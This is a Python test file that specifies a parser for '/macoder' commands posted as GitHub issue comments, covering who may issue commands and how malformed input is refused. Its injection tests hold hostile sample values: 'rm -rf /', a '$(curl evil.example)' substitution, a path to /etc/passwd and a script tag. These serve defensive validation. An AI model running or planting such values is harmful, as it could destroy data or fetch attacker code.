"""`/macoder` commands: what a comment asks, who may ask, and what is never read. A spec."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

from multi_agent_coder.action.commands import (
    MAX_BODY_CHARS,
    Command,
    CommentEvent,
    Refusal,
    comment_event,
    parse,
)

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / ".tools/npm/node_modules/@octokit/webhooks-examples/api.github.com/index.json"


def github_example() -> dict[str, Any]:
    """GitHub's own `issue_comment` `created` payload (webhooks-examples), or a reduced copy
    of its shape when the npm tools are not installed."""
    if EXAMPLES.is_file():
        events = json.loads(EXAMPLES.read_text())
        [group] = [e for e in events if e["name"] == "issue_comment"]
        return copy.deepcopy(next(x for x in group["examples"] if x["action"] == "created"))
    return {
        "action": "created",
        "issue": {"number": 1},
        "comment": {"id": 492700400, "author_association": "OWNER", "body": "hi"},
    }


def event(body: str, association: str = "OWNER") -> CommentEvent:
    payload = github_example()
    payload["comment"]["body"] = body
    payload["comment"]["author_association"] = association
    found = comment_event(payload)
    assert found is not None
    return found


def test_githubs_own_payload_gives_the_comment_its_issue_and_its_author_standing() -> None:
    found = event("/macoder status")
    assert found == CommentEvent(492700400, 1, "OWNER", "/macoder status")


@pytest.mark.parametrize(
    ("body", "asked"),
    [
        ("/macoder status", Command("status")),
        ("/macoder run T003", Command("run", "T003")),
        ("/macoder retry T003", Command("retry", "T003")),
        ("  /macoder   RETRY   T003  ", Command("retry", "T003")),
        ("Thanks!\n\n/macoder retry API-042\nwith more words below", Command("retry", "API-042")),
    ],
)
def test_a_command_is_the_first_line_that_starts_with_macoder(body: str, asked: Command) -> None:
    assert parse(event(body)) == asked


@pytest.mark.parametrize(
    "body",
    ["looks good", "see /macoder docs", "/macoderx status", "`/macoder status` is nice", ""],
)
def test_a_comment_that_is_no_command_is_left_alone(body: str) -> None:
    assert parse(event(body)) is None


@pytest.mark.parametrize("association", ["OWNER", "MEMBER", "COLLABORATOR"])
def test_people_with_a_standing_in_the_repository_may_command(association: str) -> None:
    assert parse(event("/macoder status", association)) == Command("status")


@pytest.mark.parametrize(
    "association", ["CONTRIBUTOR", "FIRST_TIMER", "FIRST_TIME_CONTRIBUTOR", "MANNEQUIN", "NONE"]
)
def test_anyone_else_is_refused_whatever_they_ask(association: str) -> None:
    refused = parse(event("/macoder retry T003", association))
    assert isinstance(refused, Refusal)
    assert "owners, members and collaborators" in refused.reason


@pytest.mark.parametrize(
    "body",
    [
        "/macoder run T003; rm -rf /",
        "/macoder run $(curl evil.example)",
        "/macoder retry ../../etc/passwd",
        "/macoder run T003 T004",
        "/macoder run",
        "/macoder retry T\u0663\u0663",  # non-ASCII digits
        "/macoder run t003",
    ],
)
def test_a_task_id_must_be_one_valid_id_and_nothing_of_the_comment_is_echoed(body: str) -> None:
    refused = parse(event(body))
    verb = body.split()[1]
    assert refused == Refusal(f"`/macoder {verb}` takes one task id, e.g. `/macoder {verb} T003`")


def test_an_unknown_verb_gets_the_usage_without_its_own_words() -> None:
    refused = parse(event("/macoder deploy <script>alert(1)</script>"))
    assert isinstance(refused, Refusal)
    assert "/macoder status" in refused.reason
    assert "deploy" not in refused.reason
    assert "<script>" not in refused.reason


def test_a_bare_prefix_asks_what_to_do() -> None:
    refused = parse(event("/macoder"))
    assert isinstance(refused, Refusal)
    assert refused.reason.startswith("say what to do")


def test_an_oversized_comment_is_not_read() -> None:
    assert parse(event("/macoder status\n" + "x" * MAX_BODY_CHARS)) is None


@pytest.mark.parametrize(
    "change",
    [
        {"action": "edited"},  # an edit could turn an old comment into a command
        {"action": "deleted"},
        {"comment": None},
        {"issue": {"number": "1"}},
        {"comment": {"id": 1, "author_association": 7, "body": "/macoder status"}},
    ],
    ids=["edited", "deleted", "no-comment", "number-not-int", "association-not-str"],
)
def test_only_a_newly_created_well_formed_comment_is_read(change: dict[str, Any]) -> None:
    payload = github_example()
    payload["comment"]["body"] = "/macoder status"
    payload.update(change)
    assert comment_event(payload) is None


def test_a_payload_that_is_not_an_object_is_no_comment() -> None:
    assert comment_event(["created"]) is None
